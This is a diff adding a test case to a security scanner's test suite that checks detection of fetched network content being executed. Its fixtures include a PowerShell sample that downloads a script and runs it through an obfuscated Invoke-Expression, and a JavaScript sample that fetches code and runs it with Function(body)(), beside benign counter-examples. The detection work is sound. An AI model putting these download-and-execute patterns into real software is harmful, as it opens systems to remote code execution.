@@ -34,6 +34,11 @@ describe("network data reaching a code runner", () => {
     const s = scanOf({ "setup/Apply-Theme.ps1": "$r = Invoke-RestMethod -Uri 'https://themes.terminal-kit.example/apply.ps1'\n$n = 'xxInvoke-Expressionxx'.Substring(2, 17)\n& $n $r\n" });
     expect(rules(s)).toContain("SR-DLEXEC-008");
   });
+  it("JavaScript: a reply handed to Function is a download run; a callback declared with function (…) that reads the reply is not", () => {
+    const fetched = (url: string) => `async function go() {\n  const r = await fetch('${url}');\n  const body = await r.text();\n`;
+    expect(rules(scanOf({ "dist/app.js": `${fetched("https://cdn.widgets.example/w.js")}  Function(body)();\n}\n` }))).toContain("SR-DLEXEC-008");
+    atMostMedium(scanOf({ "dist/app.js": `${fetched("https://api.widgets.example/list")}  body.split(",").forEach(function (u) { console.log(u, body.length) });\n}\n` }));
+  });
   it("honest: a fetched JSON config parsed, a TXT record printed", () => {
     atMostMedium(scanOf({
       "lib/cfg.js": "async function load(u) {\n  const r = await fetch(u);\n  return r.json();\n}\nconst cfg = await load('https://api.github.com/repos/octo/app/contents/cfg.json');\nconsole.log(JSON.stringify(cfg, null, 2));\n",
